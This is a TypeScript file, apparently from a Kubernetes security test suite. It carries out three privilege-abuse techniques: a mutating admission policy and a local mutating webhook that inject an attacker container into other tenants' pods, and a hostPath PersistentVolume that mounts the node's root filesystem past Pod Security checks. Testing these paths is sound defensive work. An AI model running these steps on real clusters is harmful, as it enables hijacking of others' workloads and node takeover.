// Containers put into pods of others: by admission, and by volumes that Pod Security does not see.

import { createServer } from "node:https";
import { readFileSync } from "node:fs";
import { freePort } from "../../../servers/free-port.ts";
import { waitFor } from "../../../servers/wait-for.ts";
import type { CarryOuts } from "../carry-out.ts";
import type { Pod } from "../kubelet-play.ts";
import { accepted, type Site } from "../site.ts";
import { podOf } from "./pods.ts";

const API = "/apis/admissionregistration.k8s.io/v1";
const apiVersion = "admissionregistration.k8s.io/v1";
const TAKEN = { name: "taken", image: "registry.example/taken" };
const PODS = { apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] };

const ofShop = (site: Site) => ({
  matchExpressions: [{ key: "kubernetes.io/metadata.name", operator: "In", values: [site.name("shop")] }],
});

/** Somebody else creates a pod, and it has the attacker's container. */
async function expectInjected(site: Site): Promise<void> {
  const path = `/api/v1/namespaces/${site.name("shop")}/pods?dryRun=All`;
  await waitFor("the container to be injected", async () => {
    const { spec } = accepted<Pod>(await site.admin("POST", path, podOf("of-others", {})), "to create a pod");
    return spec.containers.some(({ image }) => image === TAKEN.image) ? true : undefined;
  });
}

export const INJECTION_CARRY_OUTS: CarryOuts = {
  "mutating-admission-policy": {
    negativeIsBeyond: "it is about 1.35, where the API is off",
    run: async (site) => {
      const name = `${site.name("shop")}-taken`;
      const expression = `[JSONPatch{op: "add", path: "/spec/containers/-", value: Object.spec.containers{name: "${TAKEN.name}", image: "${TAKEN.image}"}}]`;
      const policy = {
        apiVersion,
        kind: "MutatingAdmissionPolicy",
        metadata: { name },
        spec: {
          reinvocationPolicy: "Never",
          failurePolicy: "Fail",
          matchConstraints: { namespaceSelector: ofShop(site), resourceRules: [PODS] },
          mutations: [{ patchType: "JSONPatch", jsonPatch: { expression } }],
        },
      };
      accepted(await site.ask("POST", `${API}/mutatingadmissionpolicies`, policy), "to create the policy");
      const kind = "MutatingAdmissionPolicyBinding";
      const binding = { apiVersion, kind, metadata: { name }, spec: { policyName: name } };
      accepted(await site.ask("POST", `${API}/mutatingadmissionpolicybindings`, binding), "to bind the policy");
      await expectInjected(site);
    },
  },
  "mutating-webhook": {
    run: async (site) => {
      const { authority } = site.cluster.controlPlane.certificates;
      const pair = await authority.server("webhook");
      const port = await freePort();
      const server = createServer(
        { cert: readFileSync(pair.certificatePath), key: readFileSync(pair.keyPath) },
        (incoming, response) => {
          const chunks: Buffer[] = [];
          incoming.on("data", (chunk: Buffer) => chunks.push(chunk));
          incoming.on("end", () => response.end(JSON.stringify(reviewed(Buffer.concat(chunks).toString()))));
        },
      );
      await new Promise<void>((resolve) => server.listen(port, "127.0.0.1", resolve));
      try {
        const caBundle = readFileSync(authority.caPath).toString("base64");
        const configuration = {
          apiVersion,
          kind: "MutatingWebhookConfiguration",
          metadata: { name: `${site.name("shop")}-taken` },
          webhooks: [
            {
              name: "taken.example.com",
              clientConfig: { url: `https://127.0.0.1:${port}/`, caBundle },
              rules: [PODS],
              namespaceSelector: ofShop(site),
              sideEffects: "None",
              admissionReviewVersions: ["v1"],
              failurePolicy: "Ignore",
            },
          ],
        };
        const path = `${API}/mutatingwebhookconfigurations`;
        accepted(await site.ask("POST", path, configuration), "to create the webhook");
        await expectInjected(site);
      } finally {
        server.closeAllConnections();
        server.close();
      }
    },
  },
  "persistent-volume": {
    run: async (site) => {
      const namespace = site.name("shop");
      const name = `${namespace}-root`;
      const claim = { accessModes: ["ReadWriteOnce"], storageClassName: "" };
      const volume = {
        apiVersion: "v1",
        kind: "PersistentVolume",
        metadata: { name },
        spec: { ...claim, capacity: { storage: "1Gi" }, hostPath: { path: "/" } },
      };
      accepted(await site.ask("POST", "/api/v1/persistentvolumes", volume), "to create the volume");
      const spec = { ...claim, volumeName: name, resources: { requests: { storage: "1Gi" } } };
      const securityContext = {
        allowPrivilegeEscalation: false,
        runAsNonRoot: true,
        capabilities: { drop: ["ALL"] },
        seccompProfile: { type: "RuntimeDefault" },
      };
      const pod = podOf("taken", {
        containers: [{ ...TAKEN, securityContext, volumeMounts: [{ name: "root", mountPath: "/host" }] }],
        volumes: [{ name: "root", ephemeral: { volumeClaimTemplate: { spec } } }],
      });
      accepted(await site.ask("POST", `/api/v1/namespaces/${namespace}/pods`, pod), "to create the pod");
      const path = `/api/v1/namespaces/${namespace}/persistentvolumeclaims/taken-root`;
      await waitFor("the claim to be bound to the node's root", async () => {
        const { status, body } = await site.admin("GET", path);
        const { phase } = (body as { readonly status?: { readonly phase?: string } }).status ?? {}; // a claim, or an error
        return status === 200 && phase === "Bound" ? true : undefined;
      });
    },
  },
};

/** The answer to an AdmissionReview: one container more. */
function reviewed(text: string): object {
  const { request } = JSON.parse(text) as { readonly request: { readonly uid: string } }; // an AdmissionReview
  const patch = [{ op: "add", path: "/spec/containers/-", value: TAKEN }];
  return {
    apiVersion: "admission.k8s.io/v1",
    kind: "AdmissionReview",
    response: {
      uid: request.uid,
      allowed: true,
      patchType: "JSONPatch",
      patch: Buffer.from(JSON.stringify(patch)).toString("base64"),
    },
  };
}
